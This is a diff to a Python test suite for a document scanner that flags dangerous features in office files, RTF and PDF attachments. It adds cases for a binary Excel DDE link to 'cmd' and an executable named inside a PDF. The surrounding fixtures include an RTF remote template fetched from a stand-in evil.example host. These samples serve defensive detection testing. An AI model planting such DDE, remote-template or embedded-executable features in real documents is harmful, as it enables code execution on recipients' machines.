@@ -141,6 +141,7 @@ def test_archives_in_archives_without_end_are_told() -> None:
         (docx(**{"word/embeddings/a.bin": PROGRAM}), "type-executable"),
         (zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"", "xl/macrosheets/sheet1.xml": b""}), "office-macro-xlm"),
         (zipped({"xl/workbook.xml": b"", "xl/externalLinks/l.xml": b"<ddeLink ddeService='cmd'/>"}), "office-dde"),
+        (zipped({"xl/workbook.bin": b"", "xl/externalLinks/1.bin": b"\xe8\x02\x26\1\0\3\0\0\0c\0m\0d\0"}), "office-dde"),
         (b"{\\rtf1{\\*\\template http://evil.example/a}}", "rtf-template"),
         (b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", "rtf-object-update"),
         (b"{\\rt{\\object{\\*\\objdata " + b"{\\x}".join(b"%02x" % octet for octet in b"Equation.3") + b"}}}", "office-equation"),
@@ -183,6 +184,7 @@ def test_documents_that_act(content: bytes, finding: str) -> None:
     "content",
     [
         docx(),
+        docx(**{"word/printerSettings/printerSettings1.bin": b"\0\1\2\3" * 99}),
         pdf(b"<</Type/Catalog>>"),
         zipped({"a.txt": b"x"}),
         b"a,b\n1,-2\n",
@@ -256,6 +258,16 @@ def test_a_program_as_the_text_of_a_message_is_a_program(kind: bytes, encoding: 
     body = encode(PROGRAM).replace(b"\n", b"\r\n")
     field = f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()
     assert "type-executable" in found_in(HEAD + kind + field + body)
+
+
+def test_the_name_of_a_file_in_a_pdf_is_read() -> None:
+    named = pdf(
+        b"<</Type/Filespec/UF(\\376\\377\\000b\\000.\\000e\\000x\\000e)>>",
+        b"<</Type/EmbeddedFile>>\nstream\nwords\nendstream",
+    )
+    inspection = inspect(attached(named, "a.pdf"))
+    assert "b.exe" in names_in(inspection)
+    assert {each.id for each in inspection.all_findings} == {"pdf-embedded", "type-executable"}
 
 
 def test_a_document_of_several_files_is_no_attack() -> None:
